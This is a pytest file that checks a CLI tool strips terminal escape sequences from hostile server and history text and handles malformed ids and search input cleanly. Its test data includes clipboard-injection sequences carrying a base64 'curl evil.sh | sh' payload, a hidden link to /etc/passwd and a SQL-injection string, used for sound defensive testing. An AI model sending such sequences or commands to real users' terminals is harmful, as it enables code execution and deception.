"""Issue 22, items 3 and 4: what the command line prints carries no control sequences, and odd input ends in a
line, not a traceback.

The real ``gemini-codegen`` runs in a child process against a hostile CodeGen server on 127.0.0.1 (run prompts,
summaries, pull request titles, links, log messages and error details full of escape sequences), a hostile
Gemini Live server (transcripts) and a history database holding the same.  The human-readable output must
show the words and none of the sequences; ``--json`` output must parse and give back the strings as sent.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from typing import Any

import pytest

from desktop.live import protocol as p
from desktop.terminal_text import plain
from tests.faults.conftest import FAKE_KEY, FAKE_TOKEN, ROOT, wav
from tests.faults.peers import HttpPeer, LivePeer, Reply, accept_setup, answer, drain, until_turn_sent

# the sequences a hostile service puts into its text, each with what a terminal would do with it
SEQUENCES = {
    "clear screen (CSI 2J, home)": "\x1b[2J\x1b[H",
    "window title (OSC 0)": "\x1b]0;pwned title\x07",
    "window title (OSC 2, ST)": "\x1b]2;pwned title\x1b\\",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "hidden link (OSC 8)": "\x1b]8;;file:///etc/passwd\x1b\\",
    "8-bit CSI (C1 U+009B)": "\x9b31m",
    "BEL and NUL": "\x07\x00",
    "bidi override (U+202E)": "\u202e",
}
# anything a terminal acts on: C0 but newline and tab, DEL, C1, and the bidi overrides and isolates
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile(*words: str) -> str:
    """``words`` with every sequence of ``SEQUENCES`` between them (the link closed, as a real one would be)."""
    seqs = list(SEQUENCES.values())
    out = []
    for n, word in enumerate(words):
        out.append(seqs[n % len(seqs)] + word)
    return "".join(out) + "".join(seqs) + "\x1b]8;;\x1b\\"


def visible(text: str) -> str:
    return plain(text)


def controls(text: str) -> list[str]:
    return CONTROL.findall(text)


def assert_clean(*outputs: str) -> int:
    """No control character in any output; returns how many characters were checked."""
    for out in outputs:
        found = controls(out)
        assert not found, f"{len(found)} control characters printed, e.g. {found[:5]!r} in:\n{out[-2000:]!r}"
    return sum(len(o) for o in outputs)


# ------------------------------------------------------------------------------------------ CodeGen
PROMPT = hostile("Fix", "the", "login", "bug")
SUMMARY = hostile("Fixed", "it", "in", "auth.py")
PR_TITLE = hostile("Fix", "login")
PR_URL = "https://github.com/acme/app/pull/5" + SEQUENCES["hidden link (OSC 8)"]
WEB_URL = "https://codegen.com/agent/trace/7" + SEQUENCES["clipboard write (OSC 52)"]
STEP = hostile("Reading", "auth.py")
DETAIL = hostile("prompt", "is", "too", "long")
FIELDS = {"prompt": PROMPT, "summary": SUMMARY, "pull request title": PR_TITLE, "pull request url": PR_URL,
          "web url": WEB_URL, "log message": STEP, "error detail": DETAIL}


def _run_json(run_id: int) -> dict[str, Any]:
    return {"id": run_id, "organization_id": 1, "status": "COMPLETE", "created_at": "2025-01-01T00:00:00Z",
            "web_url": WEB_URL, "result": SUMMARY, "summary": SUMMARY, "source_type": "API", "prompt": PROMPT,
            "github_pull_requests": [{"id": 5, "title": PR_TITLE, "url": PR_URL, "head_branch_name": "fix"}]}


def _respond(status: str, body: bytes) -> bytes:
    return (f"HTTP/1.1 {status}\r\ncontent-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n"
            .encode() + body)


async def hostile_codegen(head: bytes, reply: Reply) -> None:
    """Run 7 (and 8 in the list) with sequences in every text field; run 9: a 422 whose detail has them."""
    path = head.split(b" ", 2)[1].decode()
    if "/agent/runs?" in path:
        body: Any = {"items": [_run_json(7), _run_json(8) | {"prompt": STEP}], "total": 2, "page": 1, "size": 2,
                     "pages": 1}
    elif path.split("?")[0].endswith("/logs"):
        body = _run_json(7) | {"logs": [{"agent_run_id": 7, "created_at": "2025-01-01T00:00:01Z",
                                         "message_type": "ACTION", "thought": STEP}], "total_logs": 1}
    elif "/agent/run/9" in path:
        await reply.send(_respond("422 Unprocessable Entity", json.dumps({"detail": DETAIL}).encode()))
        return
    else:
        body = _run_json(7)
    await reply.send(_respond("200 OK", json.dumps(body).encode()))


def _codegen_env(app, peer: HttpPeer) -> dict[str, str]:
    return app.env(CODEGEN_API_URL=peer.url, CODEGEN_API_TOKEN=FAKE_TOKEN, CODEGEN_ORG_ID="1")


def test_runs_output_has_no_control_sequences(app, peers, threat):
    peer = peers.call(HttpPeer(hostile_codegen).start())
    env = _codegen_env(app, peer)
    human = {name: app.run(*args, env=env, timeout=60) for name, args in {
        "runs list": ("runs", "list"),
        "runs show": ("runs", "show", "7"),
        "runs follow": ("runs", "follow", "7", "--timeout", "30"),
        "runs show (error)": ("runs", "show", "9"),
    }.items()}
    as_json = {name: app.run(*args, "--json", env=env, timeout=60) for name, args in {
        "runs list": ("runs", "list"),
        "runs show": ("runs", "show", "7"),
        "runs follow": ("runs", "follow", "7", "--timeout", "30"),
    }.items()}
    peers.call(peer.stop())

    for name, r in {**human, **as_json}.items():
        assert "Traceback" not in r.stderr, (name, r.stderr[-3000:])
    assert [human[n].rc for n in ("runs list", "runs show", "runs follow")] == [0, 0, 0], \
        {n: r.stderr[-1000:] for n, r in human.items()}
    checked = assert_clean(*(r.stdout + r.stderr for r in human.values()))

    # the words are all still there (and only the words: the sequences' payloads are gone)
    assert visible(PROMPT) == "Fixtheloginbug" and visible(PR_URL) == "https://github.com/acme/app/pull/5"
    listed, shown, followed = human["runs list"].stdout, human["runs show"].stdout, human["runs follow"].stdout
    assert visible(PROMPT)[:60] in listed and visible(STEP)[:60] in listed, listed
    assert visible(WEB_URL) in listed and visible(PR_TITLE) in listed and visible(PR_URL) in listed, listed
    assert visible(PROMPT) in shown and visible(SUMMARY) in shown, shown
    assert visible(SUMMARY) in followed, followed
    assert "run 7 completed" in followed, followed
    error = human["runs show (error)"]
    line = error.one_line_error()
    assert error.rc == 1 and visible(DETAIL) in line, line

    # --json: parses, no raw control character on the wire, and the strings come back as the service sent them
    for name, r in as_json.items():
        assert r.rc == 0, (name, r.stderr[-2000:])
        assert_clean(r.stdout)
    listed_json = as_json["runs list"].events
    assert [e["prompt"] for e in listed_json] == [PROMPT, STEP]
    assert listed_json[0]["summary"] == SUMMARY and listed_json[0]["web_url"] == WEB_URL
    assert listed_json[0]["pull_requests"] == [{"title": PR_TITLE, "url": PR_URL}]
    shown_json = as_json["runs show"].events[0]
    assert (shown_json["prompt"], shown_json["summary"]) == (PROMPT, SUMMARY)
    followed_json = as_json["runs follow"].events
    assert followed_json[-1]["event"] == "Result" and followed_json[-1]["summary"] == SUMMARY
    assert any(e.get("summary") == SUMMARY for e in followed_json if e["event"] == "RunUpdate"), followed_json

    threat("terminal", "the user's terminal (screen, title, clipboard)",
           "a CodeGen service puts escape sequences in run prompts, summaries, pull request titles and links, "
           "log messages and error details (clear screen, OSC 0/2 title, OSC 52 clipboard, OSC 8 file:// link, "
           "8-bit CSI, BEL, NUL, bidi override)",
           "every service string the human-readable output prints goes through terminal_text.plain; --json is "
           "json.dumps (control characters escaped as \\u001b)",
           f"0 control characters in {checked:,} characters of output from {len(human)} commands "
           f"(runs list/show/follow and an error line); {len(SEQUENCES)} sequences x {len(FIELDS)} fields; "
           f"--json of {len(as_json)} commands parsed and gave back every string as sent")


# ------------------------------------------------------------------------------------------ Live
USER_WORDS = hostile("what", "is", "the", "status")
REPLY_WORDS = hostile("Run", "7", "is", "done")


def test_run_transcripts_have_no_control_sequences(app, peers, threat):
    async def script(ws) -> None:
        await accept_setup(ws)
        await until_turn_sent(ws)
        await ws.send(p.server_content(input_text=USER_WORDS, input_finished=True).encode())
        await answer(ws, REPLY_WORDS)
        await drain(ws)

    results = {}
    for mode in ("human", "json"):
        peer = peers.call(LivePeer(script).start())
        args = ["run", "--fast", "--wav", wav("status.wav"), "--live-url", peer.url]
        results[mode] = app.run(*args, *(["--json"] if mode == "json" else []),
                                env=app.env(GEMINI_API_KEY=FAKE_KEY), timeout=90)
        peers.call(peer.stop())

    human, as_json = results["human"], results["json"]
    assert human.rc == 0 and as_json.rc == 0, (human.stderr[-2000:], as_json.stderr[-2000:])
    checked = assert_clean(human.stdout, human.stderr, as_json.stdout, as_json.stderr)
    assert "result: turn completed" in human.stdout
    finished = [e for e in as_json.events if e["event"] == "TurnFinished"]
    assert finished and finished[-1]["assistant_text"] == REPLY_WORDS, finished
    assert finished[-1]["user_text"] == USER_WORDS, finished
    threat("terminal", "the user's terminal",
           "Gemini's transcripts of the user's words and of its reply carry escape sequences (printed by `run`)",
           "`run` prints events as repr() and then terminal_text.plain; --json is json.dumps",
           f"0 control characters in {checked:,} characters of `run` and `run --json` output; "
           f"{len(SEQUENCES)} sequences x 2 transcripts; --json gave both transcripts back as sent")


def test_run_update_and_progress_lines_are_plain(capsys, threat):
    """What `run --follow` and `runs follow` print for run news (the lines themselves, in process)."""
    from desktop.codegen.cli import _print_progress
    from desktop.events import ErrorEvent, PullRequest, RunFinished, RunReport, RunStep, RunUpdate
    from desktop.run_watch import Told

    Told(RunReport((7,), REPLY_WORDS, spoken=True, turn_id=1), transcript=REPLY_WORDS).print(False)
    Told(RunReport((7,), SUMMARY, spoken=False, why_not_spoken=STEP)).print(False)
    _print_progress(RunUpdate(7, PROMPT, "unknown", pull_requests=(PullRequest(PR_TITLE, PR_URL),)), False)
    _print_progress(RunStep(7, 0, STEP, STEP), False)
    _print_progress(RunFinished(7, "done", SUMMARY), False)
    _print_progress(ErrorEvent(STEP, DETAIL), False)
    out = capsys.readouterr().out
    checked = assert_clean(out)
    for text in (REPLY_WORDS, SUMMARY, STEP, DETAIL, PR_URL):
        assert visible(text) in out, (text, out)
    Told(RunReport((7,), SUMMARY, spoken=False), transcript=REPLY_WORDS).print(True)
    assert json.loads(capsys.readouterr().out)["text"] == SUMMARY
    threat("terminal", "the user's terminal",
           "a run update (status, steps, summary, pull request link, error) or Gemini's spoken news of it "
           "carries escape sequences",
           "run_watch.Told and the follow progress lines print through terminal_text.plain",
           f"0 control characters in {checked:,} characters of 8 lines; the words of every field kept")


# ------------------------------------------------------------------------------------------ history
HISTORY = [(hostile("run", "the", "tests"), hostile("Started", "run", "7"), None),
           (hostile("open", "the", "link"), hostile("Here", "it", "is"), hostile("the", "model", "failed"))]


def _seed_hostile_history(app) -> None:
    from desktop.state.store import DB_NAME, Store

    app.data_dir.mkdir(parents=True, exist_ok=True)
    with Store.open(app.data_dir / DB_NAME) as store:
        store.enqueue("INSERT INTO sessions (id, started_at) VALUES ('hostile', 1)")
        for n, (user, assistant, error) in enumerate(HISTORY, 1):
            store.enqueue("INSERT INTO turns (session_id, turn_no, started_at, finished_at, user_text, "
                          "assistant_text, error, timings, interrupted) VALUES ('hostile', ?, ?, ?, ?, ?, ?, '{}', 0)",
                          [n, 1000.0 + n, 1001.0 + n, user, assistant, error])


def test_history_output_has_no_control_sequences(app, threat):
    _seed_hostile_history(app)
    human = [app.run("history"), app.run("history", "--search", "tests"), app.run("db", "stats")]
    as_json = app.run("history", "--json")
    for r in (*human, as_json):
        assert r.rc == 0 and "Traceback" not in r.stderr, (r.args, r.stderr[-2000:])
    checked = assert_clean(*(r.stdout + r.stderr for r in (*human, as_json)))
    listing = human[0].stdout
    for user, assistant, error in HISTORY:
        assert visible(user) in listing and visible(assistant) in listing, listing
        if error:
            assert visible(error) in listing, listing
    assert visible(HISTORY[0][0]) in human[1].stdout and visible(HISTORY[1][0]) not in human[1].stdout
    rows = as_json.events
    assert [(r["user_text"], r["assistant_text"], r["error"]) for r in rows] == list(reversed(HISTORY))
    threat("terminal", "the user's terminal",
           "transcripts and errors stored in the history database carry escape sequences (history, "
           "history --search, db stats)",
           "history prints each stored text through terminal_text.plain; --json is json.dumps",
           f"0 control characters in {checked:,} characters of 4 commands' output; {len(SEQUENCES)} sequences x "
           f"3 fields x {len(HISTORY)} turns; --json gave every text back as stored")


SEARCHES = ['"', 'say "hello', "NEAR(", "a*", "x OR", "(", "-", "^", "tests AND NOT", "'; DROP TABLE turns; --"]


def test_history_search_takes_any_text_literally(app, history_kept, threat):
    results = {q: app.run("history", "--search", q, "--json") for q in SEARCHES}
    for q, r in results.items():
        assert r.rc == 0 and not r.stderr.strip(), (q, r.stderr[-2000:])
    # FTS syntax is searched as words: the quote is ignored, the word found
    found = app.run("history", "--search", '"seeded question 2', "--json")
    assert found.rc == 0 and [e["user_text"] for e in found.events][0] == "seeded question 2", found.stdout
    assert len(app.history()) == 3
    threat("terminal", "the history command",
           "the user's search text is FTS5 query syntax (an unbalanced quote, NEAR(, *, OR, ^, SQL) and "
           "ends the command with a traceback",
           "each search term is quoted as an FTS5 string (inner quotes doubled): any text is searched literally",
           f"{len(SEARCHES)} search texts: {sum(r.rc == 0 for r in results.values())} exit 0, "
           f"0 tracebacks; a quoted phrase still finds its turn; history intact ({len(app.history())} turns)")


# ------------------------------------------------------------------------------------------ odd input
BAD_IDS = ["Infinity", "-Infinity", "NaN", "-3", "0", "true", "1.5", "1e400", str(2**70), '"12"']


async def odd_ids(head: bytes, reply: Reply) -> None:
    """``GET .../agent/run/<n>`` answers with id BAD_IDS[n]; the run list holds one run with id Infinity."""
    path = head.split(b" ", 2)[1].decode()
    if "/agent/runs?" in path:
        raw = '{"items": [{"id": Infinity, "status": "COMPLETE", "prompt": "x"}], "total": 1}'
    else:
        n = int(path.split("?")[0].rstrip("/").rsplit("/", 1)[1])
        raw = '{"id": %s, "status": "COMPLETE", "prompt": "x"}' % BAD_IDS[n - 1]
    await reply.send(_respond("200 OK", raw.encode()))


def test_odd_run_ids_end_in_one_line(app, peers, threat):
    peer = peers.call(HttpPeer(odd_ids).start())
    env = _codegen_env(app, peer)
    shown = {bad: app.run("runs", "show", str(n), env=env, timeout=60) for n, bad in enumerate(BAD_IDS, 1)}
    listed = app.run("runs", "list", env=env, timeout=60)
    listed_json = app.run("runs", "list", "--json", env=env, timeout=60)
    peers.call(peer.stop())
    lines = {}
    for bad, r in {**shown, "list": listed, "list --json": listed_json}.items():
        lines[bad] = r.one_line_error()  # asserts: no traceback, exactly one line on stderr
        assert r.rc == 1, (bad, r.rc, r.stderr)
        assert "could not read" in lines[bad] and not r.stdout.strip(), (bad, lines[bad], r.stdout)
    assert_clean(*lines.values())
    threat("sizes and ids", "the runs command",
           "the CodeGen service sends a run id that is not an id ({\"id\": Infinity}, NaN, -3, 0, true, 1.5, "
           "1e400, 2**70, \"12\") and `runs show` / `runs list` end in a traceback",
           "the response's ids are checked when it is read (a whole number from 1 to 2**53 - 1, non-standard "
           "JSON constants refused); the command prints what it could not read as one line",
           f"{len(lines)} commands ({len(BAD_IDS)} ids for runs show, Infinity for runs list and --json): "
           f"{sum(r.rc == 1 for r in (*shown.values(), listed, listed_json))} exit 1 with one line, 0 tracebacks")


def _closed_pipe(app, args: list[str], *, buffered: bool) -> subprocess.CompletedProcess:
    """The command with stdout a pipe whose reader has already gone (``... | head`` after head exits)."""
    env = app.env()
    if buffered:
        env.pop("PYTHONUNBUFFERED", None)
    read, write = os.pipe()
    os.close(read)
    try:
        return subprocess.run([sys.executable, "-m", "desktop", *args], stdout=write, stderr=subprocess.PIPE,
                              env=env, cwd=ROOT, timeout=60, text=True)
    finally:
        os.close(write)


@pytest.mark.parametrize("buffered", [False, True], ids=["unbuffered", "buffered"])
def test_a_closed_pipe_ends_the_command_quietly(app, history_kept, threat, buffered):
    commands = [["db", "stats"], ["history"], ["history", "--json"], ["runs", "list", "--offline"]]
    results = [_closed_pipe(app, args, buffered=buffered) for args in commands]
    for args, r in zip(commands, results, strict=True):
        assert r.stderr == "", (args, r.stderr[-2000:])
        assert r.returncode == 141, (args, r.returncode)
    assert len(app.history()) == 3
    threat("terminal", "the command line in a pipeline",
           f"stdout's reader goes away (`db stats | head`), {'buffered' if buffered else 'unbuffered'} output: "
           "BrokenPipeError traceback",
           "the entry point catches BrokenPipeError once for every command, flushes stdout inside that guard and "
           "points stdout at /dev/null; exit 141 as for SIGPIPE (the signal stays ignored for sockets)",
           f"{len(commands)} commands: exit {sorted({r.returncode for r in results})}, "
           f"{sum(len(r.stderr) for r in results)} bytes on stderr")
